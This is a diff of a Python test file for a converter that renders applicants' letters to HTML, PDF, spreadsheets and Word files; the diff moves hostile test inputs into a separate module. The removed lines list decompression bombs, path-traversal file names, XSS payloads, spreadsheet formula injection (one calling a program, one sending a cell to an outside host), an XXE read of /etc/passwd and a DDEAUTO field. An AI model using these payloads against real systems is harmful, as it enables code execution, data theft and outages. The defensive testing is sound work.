@@ -8,17 +8,14 @@ upload forms, spreadsheets and document writers.
 from __future__ import annotations
 
 import csv
-import gzip
 import io
 import json
 import re
 import struct
 import subprocess
 import zipfile
-from collections.abc import Mapping
 from html.parser import HTMLParser
 from pathlib import Path
-from typing import Any
 
 import attrs
 import docx
@@ -38,90 +35,9 @@ from ampcite.letters.as_pdf import to_pdf
 from ampcite.letters.records import Asked, Head, Item, Letter, Look, Requirement, Settled
 from ampcite.letters.texts import readable
 from browser import needs_pdf_tools
+from hostile import FILES, HOUSE, TEXTS
 from letters_shared import letter_of
 from shared import shipped_house
-
-HOUSE = json.dumps(shipped_house("converter-strings")).encode()
-
-
-def put(path: str, value: str) -> bytes:
-    """The house with a JSON text put in for one value."""
-    house: Any = json.loads(HOUSE)
-    here = house
-    *way, last = path.split("/")
-    for step in way:
-        here = here[step]
-    here[last] = "\0HERE"
-    return json.dumps(house).replace('"\\u0000HERE"', value).encode()
-
-
-FILES: Mapping[str, bytes] = {
-    "bomb of blanks.json": b" " * 30_000_000,
-    "bomb of brackets.json": b"[" * 3_000_000,
-    "bomb of objects.json": b'{"a":' * 200_000,
-    "bomb of one key.json": b'{"' + b"k" * 19_000_000 + b'":1}',
-    "bomb of numbers.json": b'{"circuits":[' + b"9," * 2_000_000 + b"9]}",
-    "bomb in gzip.json": gzip.compress(b"0" * 10_000_000),
-    "zip in a zip.json": b"PK\x03\x04" + b"\0" * 100,
-    "giant whole number.json": put("service/voltage", "9" * 4000),
-    "giant power.json": put("service/voltage", "1e308"),
-    "beyond any number.json": put("service/voltage", "1e400"),
-    "giant number in a text.json": put("service/voltage", '"1e99999 V"'),
-    "giant count.json": put("strings", '[{"id":"S","modules_in_series":1e15}]'),
-    "nearly nothing.json": put("service/voltage", "5e-324"),
-    "UTF-16 with its mark.json": HOUSE.decode().encode("utf-16"),
-    "UTF-32.json": HOUSE.decode().encode("utf-32-le"),
-    "UTF-7.json": b"+AHs-" + HOUSE,
-    "overlong slash.json": HOUSE.replace(b"invented", b"inv\xc0\xafented", 1),
-    "half a pair.json": put("project/name", '"\\udfff"'),
-    "../../up and out.json": HOUSE,
-    "/etc/absolute.json": HOUSE,
-    "C:\\windows\\other.json": HOUSE,
-    "..\\..\\backwards.json": HOUSE,
-    "turned\u202enosj.exe.json": HOUSE,
-    "\x1b[2J\x07bell.json": HOUSE,
-    "file it names.json": put("catalogue", '["/etc/passwd", "../../secret.json", "file:///etc/passwd"]'),
-}  # fmt: skip
-"""Files by the names they have in a zip file."""
-
-TEXTS: Mapping[str, str] = {
-    "script": "<script>alert(1)</script>",
-    "image that fails": "\"><img src=x onerror=alert(1)>",
-    "frame": "<iframe src=//x.invalid></iframe>",
-    "vector with a script": "<svg/onload=alert(1)>",
-    "end of the title": "</title></head><body onload=alert(1)>",
-    "end of a comment": "--><b>bold</b><!--",
-    "entity": "&lt;b&gt; &#x3c;b&#62; &amp;",
-    "address with a script": "javascript:alert(1)",
-    "style that calls home": "<style>@import url(//x.invalid/a.css)</style>",
-    "formula": "=1+1",
-    "formula with a plus": "+1+1",
-    "formula with a minus": "-2+3",
-    "formula with an at": "@SUM(A1:A9)",
-    "formula after a tab": "\t=1+1",
-    "formula after a return": "\r=1+1",
-    "formula that calls a program": "=cmd|' /C calc'!A0",
-    "formula that calls home": '=HYPERLINK("http://x.invalid/?"&A1,"see")',
-    "formula in other brackets": "=IMPORTXML(\"http://x.invalid\",\"//a\")",
-    "quote and comma": "a\",\"b\n=1+1,c",
-    "end of a text run": "]]></w:t></w:r><w:r><w:t>more",
-    "end of an XML declaration": "?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
-    "field of a word processor": "{ DDEAUTO c:\\\\windows\\\\calc.exe }",
-    "heading of the PDF's language": "#heading(1)[x]",
-    "file in the PDF's language": "#read(\"/etc/passwd\")",
-    "marks of the PDF's language": "*bold* _em_ `raw` $x^2$ @ref <label> \\u{41}",
-    "template": "{{ 7*7 }} {% raw %} ${7*7}",
-    "words of the form": "{authority} {round} {__class__}",
-    "percent signs": "%s %n %(name)s %x%x",
-    "turned direction": "abc\u202edcba\u202c",
-    "isolated direction": "\u2066abc\u2069",
-    "zero byte": "a\0b",
-    "colours of a terminal": "\x1b[31mred\x1b[0m",
-    "bell and backspace": "a\x07\x08b",
-    "half a pair": "a\ud800b",
-    "no width": "zero\u200bwidth",
-}  # fmt: skip
-"""Texts, to stand wherever an applicant can write one."""
 
 
 def test_there_are_sixty() -> None:
@@ -140,8 +56,8 @@ def test_files_that_mean_harm_are_set_aside_or_judged_and_nothing_leaves_the_fol
     assert sorted(path.name for path in tmp_path.iterdir()) == ["in", "out"]
     judged = [row["name"] for row in rows if row["outcome"] != "unusable"]
     assert sorted(judged) == ["../../up and out.json", "..\\..\\backwards.json", "/etc/absolute.json",
-                              "C:\\windows\\other.json", "\\x1b[2J\\x07bell.json", "giant power.json",
-                              "nearly nothing.json", "turned\\u202enosj.exe.json"]  # fmt: skip
+                              "C:\\windows\\other.json", "\\x1b[2J\\x07bell.json", "nearly nothing.json",
+                              "turned\\u202enosj.exe.json"]  # fmt: skip
     assert all(row["reason"] and len(row["reason"]) < 4100 for row in rows if row["outcome"] == "unusable")
     assert not any("root:" in str(value) for row in rows for value in row.values())
     texts = [path for path in out.rglob("*") if path.suffix in (".csv", ".html", ".txt", ".json")]
@@ -152,7 +68,7 @@ def test_files_that_mean_harm_are_set_aside_or_judged_and_nothing_leaves_the_fol
 def test_a_zip_that_lies_about_its_sizes_is_read_no_further_than_it_says(tmp_path: Path) -> None:
     path = tmp_path / "q.zip"
     with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
-        archive.writestr("a.json", b" " * 25_000_000)
+        archive.writestr("a.json", b" " * 1_000_000)
     data = bytearray(path.read_bytes())
     central = data.rindex(b"PK\x01\x02")
     struct.pack_into("<I", data, central + 24, 10)
@@ -213,7 +129,8 @@ class Page(HTMLParser):
 
 def test_html_shows_every_text_as_text(letter: Letter) -> None:
     harmless, page = Page(to_html(letter_of(shipped_house("converter-strings")))), Page(to_html(letter))
-    assert page.tags <= harmless.tags | {"table", "tr", "th", "td", "ul", "li", "section", "h2", "h3", "span"}
+    own = {"table", "tr", "th", "td", "ul", "li", "section", "h2", "h3", "span", "dl", "dt", "dd"}
+    assert page.tags <= harmless.tags | own
     assert not any(name and name.startswith("on") for name in page.names) and "src" not in page.names
     words = re.sub(r"\s+", "", page.words)
     assert [name for name, text in TEXTS.items() if shown(text) not in words] == []
